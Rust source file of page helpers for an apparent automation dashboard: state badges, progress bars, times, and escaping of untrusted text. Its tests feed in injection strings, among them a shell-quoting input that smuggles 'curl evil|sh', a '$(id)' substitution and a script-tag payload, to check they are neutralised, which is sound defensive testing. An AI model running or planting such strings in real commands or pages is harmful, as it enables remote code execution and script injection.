//! What pages have in common: states, times, bars, foreign text.

use maud::{Markup, html};
use plinth_model::run::{RunState, StepState, StepView, Tally};
use plinth_model::span::span;
use plinth_model::text::shell_word;
use plinth_model::{RunView, StepId, amount};
pub(crate) use plinth_report::{short, told};

/// A text of others as a shell takes it for one word of a command that somebody copies: it may come from a link that others made.
pub(crate) fn quoted(text: &str) -> String {
    shell_word(&told(text)).into_owned()
}

/// Lines of a list that are shown; `.json` has all.
pub(crate) const LINES: usize = 20;

/// Lines of others for a list, each of them cleaned; what is left out is counted.
pub(crate) fn several(lines: &[String]) -> Vec<String> {
    let more = lines.len().saturating_sub(LINES);
    let rest = (more > 0).then(|| format!("and {}", amount(more, "more line")));
    lines.iter().take(LINES).map(|line| told(line)).chain(rest).collect()
}

/// The letter of a state: a colour alone says nothing.
pub(crate) const fn letter(state: StepState) -> &'static str {
    match state {
        StepState::Pending => "·",
        StepState::Looking => "L",
        StepState::Acting => "A",
        StepState::Changed => "C",
        StepState::Unchanged => "=",
        StepState::Skipped => "S",
        StepState::Failed => "F",
        StepState::NotRun => "N",
        StepState::Unknown => "X",
    }
}

/// The class of a state in the style sheet.
pub(crate) const fn class(state: StepState) -> &'static str {
    match state {
        StepState::Pending => "p",
        StepState::Looking => "l",
        StepState::Acting => "a",
        StepState::Changed => "c",
        StepState::Unchanged => "u",
        StepState::Skipped => "s",
        StepState::Failed => "f",
        StepState::NotRun => "n",
        StepState::Unknown => "x",
    }
}

/// All states, as legends list them.
pub(crate) const STATES: [StepState; 9] = [
    StepState::Failed,
    StepState::Unknown,
    StepState::Acting,
    StepState::Looking,
    StepState::Pending,
    StepState::NotRun,
    StepState::Changed,
    StepState::Unchanged,
    StepState::Skipped,
];

/// A state as a label: letter, colour and word.
pub(crate) fn badge(state: StepState) -> Markup {
    html! { span class={"st " (class(state))} { i aria-hidden="true" { (letter(state)) } " " (state.told()) } }
}

/// The attempt that a step is at, or waits for, if it is not the first; none of one that does not run.
pub(crate) fn again(step: &StepView) -> Option<u32> {
    let is_again = step.waits.is_some() || step.attempt > 1;
    (step.state.is_running() && is_again).then_some(step.retries + 1)
}

/// How a step stands, in words: `acting`; `tried again, attempt 3`.
pub(crate) fn step_word(view: &RunView, id: &StepId) -> String {
    match view.steps.get(id).and_then(again) {
        Some(attempt) => format!("tried again, attempt {attempt}"),
        None => view.state_of(id).told().to_owned(),
    }
}

/// How a step stands, as a label.
pub(crate) fn step_badge(view: &RunView, id: &StepId) -> Markup {
    let state = view.state_of(id);
    html! { span class={"st " (class(state))} { i aria-hidden="true" { (letter(state)) } " " (step_word(view, id)) } }
}

/// A link that opens the card in which it stands, for whoever is to see just that. Not in the card's head, which is a button itself.
pub(crate) fn link_to(id: &str, what: &str) -> Markup {
    html! { p.dim { a.link href=(format!("#{id}")) { "link to this " (what) } } }
}

/// Letters with their words.
pub(crate) fn legend() -> Markup {
    html! { p.legend { @for state in STATES { (badge(state)) " " } } }
}

/// The class of a run's state.
pub(crate) const fn run_class(state: RunState) -> &'static str {
    match state {
        RunState::Running => "a",
        RunState::Done => "c",
        RunState::Partly => "f",
        RunState::Stopped | RunState::Interrupted => "x",
        RunState::None => "p",
    }
}

/// The letter of a run's state.
const fn run_letter(state: RunState) -> &'static str {
    match state {
        RunState::Running => "A",
        RunState::Done => "C",
        RunState::Partly => "F",
        RunState::Stopped | RunState::Interrupted => "X",
        RunState::None => "·",
    }
}

/// A run's state as a label.
pub(crate) fn run_badge(state: RunState, id: Option<&str>) -> Markup {
    html! {
        span id=[id] class={"st " (run_class(state))} { i aria-hidden="true" { (run_letter(state)) } " " (state.word()) }
    }
}

/// Parts of a bar: class, word, how many.
pub(crate) fn shares(tally: &Tally, total: usize) -> [(&'static str, &'static str, usize); 8] {
    let seen = tally.ended() + tally.running() + tally.unknown;
    [
        ("f", "failed", tally.failed),
        ("x", "interrupted", tally.unknown),
        ("c", "changed", tally.changed),
        ("u", "unchanged", tally.unchanged),
        ("s", "skipped", tally.skipped),
        ("a", "running", tally.running()),
        ("n", "not run", tally.not_run),
        ("p", "waiting", total.saturating_sub(seen)),
    ]
}

/// `3 changed, 1 failed, 2 waiting`.
pub(crate) fn counted(tally: &Tally, total: usize) -> String {
    let parts = shares(tally, total);
    let told: Vec<String> = parts.iter().filter(|part| part.2 > 0).map(|(_, word, n)| format!("{n} {word}")).collect();
    if told.is_empty() { "nothing".to_owned() } else { told.join(", ") }
}

/// A bar of shares, drawn on the server.
pub(crate) fn bar(tally: &Tally, total: usize) -> Markup {
    let shares = shares(tally, total);
    let all = shares.iter().map(|share| share.2).sum::<usize>().max(1);
    let mut at = 0.0;
    let mut parts = Vec::new();
    for (class, _, count) in shares.iter().filter(|share| share.2 > 0) {
        let wide = *count as f64 * 100.0 / all as f64;
        parts.push((*class, at, wide));
        at += wide;
    }
    html! {
        svg.bar viewBox="0 0 100 8" preserveAspectRatio="none" role="img" aria-label=(counted(tally, total)) {
            @for (class, from, wide) in parts {
                rect class=(class) x=(number(from)) y="0" width=(number(wide)) height="8" {}
            }
        }
    }
}

/// A number for a drawing: two digits behind the point, and none that say nothing.
pub(crate) fn number(value: f64) -> String {
    let text = format!("{value:.2}");
    text.trim_end_matches('0').trim_end_matches('.').to_owned()
}

/// A step with a link to its page.
pub(crate) fn step_link(links: &crate::route::Links, step: &StepId) -> Markup {
    html! { a.id href=(links.to(&crate::route::Part::Step(step.clone()))) { (told(step.as_str())) } }
}

/// A node with a link to its page.
pub(crate) fn node_link(links: &crate::route::Links, node: &str) -> Markup {
    html! { a.id href=(links.to(&crate::route::Part::Node(node.to_owned()))) { (told(node)) } }
}

/// A span of time; the seconds stand in the machine's form of the page.
pub(crate) fn took(seconds: Option<f64>) -> String {
    seconds.map(span).unwrap_or_default()
}

/// A moment in UTC.
pub(crate) fn moment(at: Option<jiff::Timestamp>) -> Markup {
    match at {
        None => html! { "-" },
        Some(at) => {
            let text = format!("{at:.0}");
            html! { time datetime=(text) { (text.replace('T', " ").replace('Z', " UTC")) } }
        }
    }
}

/// The time of day of a moment, in UTC.
pub(crate) fn of_day(at: jiff::Timestamp) -> String {
    format!("{at:.0}").split('T').nth(1).unwrap_or_default().trim_end_matches('Z').to_owned()
}

/// A row of a list of facts that patches fill; one that is empty is not to be seen.
pub(crate) fn live_fact(id: &str, name: &str, value: &str) -> Markup {
    html! { dt hidden[value.is_empty()] { (name) } dd id=(id) hidden[value.is_empty()] { (value) } }
}

/// A row of a list of facts; what is empty is left out.
pub(crate) fn fact(name: &str, value: &str) -> Markup {
    html! { @if !value.is_empty() { dt { (name) } dd { (value) } } }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn foreign_text_is_one_line_of_what_can_be_seen() {
        assert_eq!(
            told("a\u{1b}]8;;http://x\u{7}b\u{202e}c\u{9b}\0\nd"),
            r"a\u{1b}]8;;http://x\u{7}b\u{202e}c\u{9b}\u{0} d"
        );
        let escaped = html! { (told("<script>alert(1)</script>")) }.into_string();
        assert_eq!(escaped, "&lt;script&gt;alert(1)&lt;/script&gt;");
    }

    #[test]
    fn a_word_for_a_shell_stays_one() {
        assert_eq!(quoted("nodes/account/dgx-06"), "nodes/account/dgx-06");
        assert_eq!(quoted(""), "''");
        assert_eq!(quoted("x';curl evil|sh;'"), r"'x'\'';curl evil|sh;'\'''");
        assert_eq!(quoted("a\nb $(id) `id`"), "'a b $(id) `id`'");
    }

    #[test]
    fn a_list_is_bounded_and_says_so() {
        let lines: Vec<String> = (0..LINES + 2).map(|line| line.to_string()).collect();
        assert_eq!(several(&lines).last().map(String::as_str), Some("and 2 more lines"));
        assert_eq!(several(&lines[..LINES]).len(), LINES);
    }

    #[test]
    fn a_bar_is_whole() {
        let tally = Tally { changed: 1, failed: 1, ..Tally::default() };
        let drawn = bar(&tally, 4).into_string();
        assert!(drawn.contains(r#"aria-label="1 failed, 1 changed, 2 waiting""#), "{drawn}");
        assert!(drawn.contains(r#"x="50" y="0" width="50""#), "{drawn}");
        // The terminal and the text of the page tell what a gate left out by itself; so does the page.
        let tally = Tally { changed: 2, unchanged: 3, skipped: 21, ..Tally::default() };
        assert_eq!(counted(&tally, 26), "2 changed, 3 unchanged, 21 skipped");
        assert_eq!(bar(&tally, 26).into_string().matches("<rect").count(), 3);
        assert_eq!((number(0.0), number(1.0 / 3.0)), ("0".to_owned(), "0.33".to_owned()));
    }
}
